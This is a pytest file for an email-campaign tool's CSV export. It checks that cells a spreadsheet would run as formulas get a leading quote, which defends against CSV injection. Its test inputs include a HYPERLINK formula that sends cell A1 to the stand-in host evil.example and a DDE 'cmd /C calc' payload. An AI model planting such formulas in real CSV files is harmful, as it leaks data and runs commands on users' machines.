"""Every CSV dripmail writes keeps a would-be formula as text (OWASP CSV injection)."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from campaigns import csv_cells
from senders.base import Message
from senders.file import FileSender

ROOT = Path(__file__).resolve().parents[2]


def message(delivery_id: str, to: str, subject: str) -> Message:
    return Message(
        delivery_id=delivery_id,
        from_name="Clinic",
        from_address="clinic@example.com",
        to_address=to,
        to_name=None,
        subject=subject,
        preheader=None,
        html="<p>Hello</p>",
        text="Hello",
        date=datetime(2026, 3, 2, 15, 0, tzinfo=UTC),
    )


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_single_quote_first(text):
    assert csv_cells.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Pat", "pat@example.com", " =1", "1-2", "", "'=1"])
def test_other_text_is_left_as_it_is(value):
    assert csv_cells.cell(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, 0, None, datetime(2026, 1, 1, tzinfo=UTC)])
def test_numbers_and_dates_the_program_wrote_stay_data(value):
    # A negative number is data: only text typed by someone can carry a formula.
    assert csv_cells.cell(value) is value


def test_a_written_row_reads_back_with_the_quote_and_the_numbers_untouched():
    handle = io.StringIO(newline="")
    csv_cells.writer(handle).writerows([["=1+1", -3, "-3", "Pat"]])
    assert next(csv.reader(io.StringIO(handle.getvalue()))) == ["'=1+1", "-3", "'-3", "Pat"]


def test_the_outbox_index_keeps_a_formula_subject_and_address_as_text(tmp_path):
    sender = FileSender(tmp_path / "outbox")
    sender.send(
        [
            message("d1", "=1+1@example.com", '=HYPERLINK("http://evil.example","Win")'),
            message("d2", "pat@example.com", "Your sleep programme"),
        ]
    )
    with (tmp_path / "outbox" / "index.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["sent_at", "to", "subject", "file", "delivery_id"]
    assert rows[1][1:3] == ["'=1+1@example.com", '\'=HYPERLINK("http://evil.example","Win")']
    assert rows[2][1:3] == ["pat@example.com", "Your sleep programme"]
    # The cell names the .eml file exactly as it is on disk.
    assert all((tmp_path / "outbox" / row[3]).is_file() for row in rows[1:])


def csv_writer_calls(root: Path) -> list[str]:
    """`file:line` of every csv.writer / csv.DictWriter call outside campaigns/csv_cells.py."""
    files = [root / "cli.py", *(root / "campaigns").rglob("*.py")]
    files += (root / "senders").rglob("*.py")
    found = []
    for path in files:
        if path == root / "campaigns" / "csv_cells.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"), str(path))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            name = node.func.attr if isinstance(node.func, ast.Attribute) else None
            name = name or (node.func.id if isinstance(node.func, ast.Name) else None)
            if name in {"writer", "DictWriter"} and (
                not isinstance(node.func, ast.Attribute)
                or (isinstance(node.func.value, ast.Name) and node.func.value.id == "csv")
            ):
                found.append(f"{path.relative_to(root)}:{node.lineno}")
    return found


def test_no_module_writes_csv_but_through_csv_cells():
    assert csv_writer_calls(ROOT) == [], "write CSV with campaigns.csv_cells.writer()"


def test_the_guard_finds_a_direct_csv_writer(tmp_path):
    (tmp_path / "campaigns").mkdir()
    (tmp_path / "senders").mkdir()
    (tmp_path / "cli.py").write_text("import csv\nw = csv.writer(open('x', 'w'))\n")
    (tmp_path / "senders" / "x.py").write_text("from csv import DictWriter\nDictWriter(1, [])\n")
    assert csv_writer_calls(tmp_path) == ["cli.py:2", "senders/x.py:2"]
